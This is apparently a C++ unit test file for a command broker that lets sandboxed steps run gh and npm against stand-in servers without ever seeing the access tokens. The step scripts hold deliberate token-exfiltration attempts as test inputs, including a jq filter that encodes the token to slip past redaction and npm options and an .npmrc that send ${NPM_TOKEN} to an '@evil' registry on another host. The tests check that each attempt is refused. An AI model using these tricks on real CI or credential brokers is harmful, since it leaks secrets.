// Granted commands with the real programs they are meant for: gh talking to
// a stand-in GitHub Enterprise API over TLS on 127.0.0.1, and npm reading a
// package in the workspace and a stand-in registry. Each runs on the host
// through the broker for a step in the namespace sandbox; the token reaches
// the stand-in server and nothing else (docs/commands.md, "Real programs").
#include <boost/test/unit_test.hpp>

#include <nlohmann/json.hpp>

#include "engine/fixture.h"
#include "tests/support/cases.h"
#include "tests/support/upstream.h"

namespace {

using namespace hearth::testing;

const std::string kGhToken = "ghe_S3cr3t-enterprise-7d41a9";
const std::string kNpmToken = "npm_S3cr3t-registry-52c0e8";

void require_program(const std::string& name) {
  std::string cmd = "command -v " + name + " >/dev/null 2>&1";
  BOOST_REQUIRE_MESSAGE(std::system(cmd.c_str()) == 0,
                        name + " is not installed on this machine (scripts/install-deps.sh installs it)");
}

// What jq's `explode` makes of a string: the text of its code points.
std::string exploded(const std::string& s) {
  std::string out = "[";
  for (unsigned char c : s) out += (out.size() > 1 ? "," : "") + std::to_string(c);
  return out + "]";
}

// GitHub Enterprise's REST (/api/v3) and GraphQL (/api/graphql) answers for
// issue 12 of o/r, as gh 2.23 asks for them.
std::optional<std::string> github_route(const UpstreamRequest& r) {
  nlohmann::json issue = {{"number", 12}, {"title", "Stand-in issue twelve"}, {"body", "Reported on the stand-in"}};
  if (r.method == "GET" && r.path == "/api/v3/repos/o/r/issues/12") return issue.dump();
  if (r.method == "POST" && r.path == "/api/graphql" && has(r.body, "Issue_fields"))
    return R"({"data":{"Issue":{"fields":[{"name":"stateReason"}]}}})";
  if (r.method == "POST" && r.path == "/api/graphql" && has(r.body, "IssueByNumber")) {
    issue["__typename"] = "Issue";
    return nlohmann::json{{"data", {{"repository", {{"hasIssuesEnabled", true}, {"issue", issue}}}}}}.dump();
  }
  return std::nullopt;
}

// A stand-in GitHub Enterprise on 127.0.0.1 and another host on 127.0.0.2,
// both with certificates of a CA made for the test.
struct StandInGithub {
  TempDir dir;
  TestCa ca = TestCa::make(dir.path);
  Upstream server{&ca};
  Upstream elsewhere{&ca, "127.0.0.2"};
  StandInGithub() {
    server.set_route(github_route);
    elsewhere.set_route(github_route);
    write_file(dir.path / "other-bundle.pem", "");  // trusts nothing: the engine's own SSL_CERT_FILE
    // The CA certificate is public, like /etc/ssl: readable by the jail's user.
    std::filesystem::permissions(dir.path, std::filesystem::perms::owner_all | std::filesystem::perms::group_read |
                                               std::filesystem::perms::group_exec | std::filesystem::perms::others_read |
                                               std::filesystem::perms::others_exec);
  }
  std::string host() const { return "127.0.0.1:" + std::to_string(server.port()); }
  std::string other_host() const { return "127.0.0.2:" + std::to_string(elsewhere.port()); }

  // [commands.gh] pointed at the stand-in, with `policy` (allow/preset lines).
  std::string command(const std::string& policy) const {
    return R"([sandbox]
kind = "namespace"

[commands.gh]
secrets = ["GH_ENTERPRISE_TOKEN"]
env = { GH_HOST = ")" + host() + R"(", SSL_CERT_FILE = ")" + ca.ca_pem + R"(" }
)" + policy + "\n";
  }

  // Every request the stand-in received carried the token, and there was one.
  void expect_token_sent() {
    auto got = server.requests_received();
    BOOST_TEST(!got.empty());
    for (auto& r : got) BOOST_TEST(r.headers["authorization"] == "token " + kGhToken, r.method << " " << r.path);
  }
};

// A registry's answer for any package: one version, 1.2.3.
std::optional<std::string> registry_route(const UpstreamRequest& r) {
  if (r.method != "GET") return std::nullopt;
  std::string name = r.path.substr(1);
  for (size_t at; (at = name.find("%2f")) != std::string::npos || (at = name.find("%2F")) != std::string::npos;)
    name.replace(at, 3, "/");
  nlohmann::json version = {{"name", name}, {"version", "1.2.3"}, {"description", "stand-in"},
                            {"dist", {{"tarball", "http://127.0.0.1/none.tgz"}, {"shasum", std::string(40, '0')}}}};
  return nlohmann::json{{"name", name},
                        {"dist-tags", {{"latest", "1.2.3"}}},
                        {"versions", {{"1.2.3", version}}},
                        {"time", {{"created", "2024-01-01T00:00:00.000Z"}, {"1.2.3", "2024-01-01T00:00:00.000Z"}}}}
      .dump();
}

}  // namespace

BOOST_AUTO_TEST_SUITE(real_programs)

BOOST_AUTO_TEST_CASE(gh_reads_an_issue_from_a_stand_in_enterprise_host_with_a_token_only_the_broker_holds) {
  require_program("gh");
  StandInGithub github;
  // The engine's own SSL_CERT_FILE does not trust the stand-in: the
  // command's env must replace it, not follow it.
  ScopedEnv env({{"GH_ENTERPRISE_TOKEN", kGhToken},
                 {"SSL_CERT_FILE", (github.dir.path / "other-bundle.pem").string()}});
  TempRepo repo(github.command(R"(allow = ["api repos/o/r/issues/?*", "issue view ?* --repo o/r --json ?*"])") + R"(
[[steps]]
id = "read"
commands = ["gh"]
run = '''
gh api repos/o/r/issues/12 > rest.json
gh issue view 12 --repo o/r --json title,body > graphql.json
gh auth token || echo "token=$?"
gh api -X DELETE repos/o/r/issues/12 || echo "delete=$?"
echo "in-step=${GH_ENTERPRISE_TOKEN:-absent}"
'''
)");
  RunResult r = repo.run();
  std::string out = r.succeeded_output("read");
  BOOST_TEST(nlohmann::json::parse(repo.read("rest.json"))["title"] == "Stand-in issue twelve");
  BOOST_TEST(nlohmann::json::parse(repo.read("graphql.json"))["body"] == "Reported on the stand-in");
  github.expect_token_sent();
  // Calls outside the grant never start gh, and say which grant they lack.
  expect_all_in(out, {"token=126", "delete=126", "'gh api -X DELETE repos/o/r/issues/12' is not granted", "[commands.gh] allow"});
  for (auto& req : github.server.requests_received()) BOOST_TEST(req.method != "DELETE");
  BOOST_TEST(has(out, "in-step=absent"), out);
  repo.expect_secret_absent(r, kGhToken);
}

BOOST_AUTO_TEST_CASE(gh_read_only_preset_reads_and_refuses_writes_other_hosts_and_jq) {
  require_program("gh");
  StandInGithub github;
  ScopedEnv env({{"GH_ENTERPRISE_TOKEN", kGhToken}});
  TempRepo repo(github.command(R"(preset = "gh:read-only")") + R"(
[[steps]]
id = "read"
commands = ["gh"]
run = '''
gh issue view 12 --repo o/r --json title > view.json
gh issue comment 12 --repo o/r --body hello || echo "comment=$?"
gh api repos/o/r/issues/12 || echo "api=$?"
gh issue view 12 --repo )" + github.other_host() + R"(/o/r --json title || echo "other-host=$?"
gh issue view https://)" + github.other_host() + R"(/o/r/issues/12 --json title || echo "other-url=$?"
gh issue view 12 --repo o/r --json title --jq 'env.GH_ENTERPRISE_TOKEN | explode' || echo "jq=$?"
'''
)");
  RunResult r = repo.run();
  std::string out = r.succeeded_output("read");
  BOOST_TEST(nlohmann::json::parse(repo.read("view.json"))["title"] == "Stand-in issue twelve");
  github.expect_token_sent();
  // Refused: a write, a raw API call, and (gh would send GH_ENTERPRISE_TOKEN
  // to any host a call names) another host by name or by URL.
  expect_all_in(out, {"comment=126", "api=126", "other-host=126", "other-url=126"});
  BOOST_TEST(github.elsewhere.requests() == 0);
  // --jq reads gh's environment, and no redaction knows the exploded token.
  BOOST_TEST(has(out, "jq=126"), out);
  BOOST_TEST(!has(out, exploded(kGhToken)), out);
  repo.expect_secret_absent(r, kGhToken);
}

BOOST_AUTO_TEST_CASE(npm_reads_the_workspace_package_and_a_registry_with_a_token_the_step_never_sees) {
  require_program("npm");
  TempDir host;
  Upstream registry;
  Upstream elsewhere(nullptr, "127.0.0.2");
  registry.set_route(registry_route);
  elsewhere.set_route(registry_route);
  std::string url = registry.url() + "/", other = elsewhere.url() + "/";
  std::string other_key = "//127.0.0.2:" + std::to_string(elsewhere.port()) + "/:_authToken";
  ScopedEnv env({{"NPM_TOKEN", kNpmToken}});
  TempRepo repo(R"([sandbox]
kind = "namespace"

[commands.npm]
secrets = ["NPM_TOKEN"]
env = { NPM_CONFIG_REGISTRY = ")" + url + R"(", NPM_CONFIG_UPDATE_NOTIFIER = "false" }
preset = "npm:read-only"

[[steps]]
id = "inspect"
commands = ["npm"]
run = '''
npm pkg get name version > pkg.json
npm ls > ls.txt
npm view left-pad version > view.txt
npm publish || echo "publish=$?"
npm view @evil/x version '--@evil:registry=)" + other + R"(' '--)" + other_key + R"(=${NPM_TOKEN}' || echo "expand=$?"
printf '%s\n' '@evil:registry=)" + other + R"(' ')" + other_key + R"(=${NPM_TOKEN}' > .npmrc
mkdir -p sub && cd sub
npm view @evil/x version || echo "npmrc=$?"
cd .. && rm .npmrc
echo "in-step=${NPM_TOKEN:-absent}"
'''
)");
  repo.write("package.json", R"({"name": "hearth-demo", "version": "1.4.2"})");
  RunResult r = repo.run();
  std::string out = r.succeeded_output("inspect");
  auto pkg = nlohmann::json::parse(repo.read("pkg.json"));
  BOOST_TEST(pkg["name"] == "hearth-demo");
  BOOST_TEST(pkg["version"] == "1.4.2");
  BOOST_TEST(has(repo.read("ls.txt"), "hearth-demo@1.4.2"), repo.read("ls.txt"));
  BOOST_TEST(repo.read("view.txt") == "1.2.3\n");
  BOOST_REQUIRE(!registry.received().empty());
  for (auto& h : registry.received()) BOOST_TEST(h["authorization"] == "Bearer " + kNpmToken);
  BOOST_TEST(has(out, "publish=126"), out);
  BOOST_TEST(has(out, "'npm publish' is not granted"), out);
  // npm expands ${NPM_TOKEN} in options and in the workspace's .npmrc, which
  // the step writes: either would send the token to a registry of its choosing.
  BOOST_TEST(has(out, "expand=126"), out);
  BOOST_TEST(has(out, "npmrc=126"), out);
  BOOST_TEST(has(out, "would read /workspace/.npmrc"), out);
  BOOST_TEST(elsewhere.requests() == 0);
  BOOST_TEST(has(out, "in-step=absent"), out);
  repo.expect_secret_absent(r, kNpmToken);
}

BOOST_AUTO_TEST_SUITE_END()
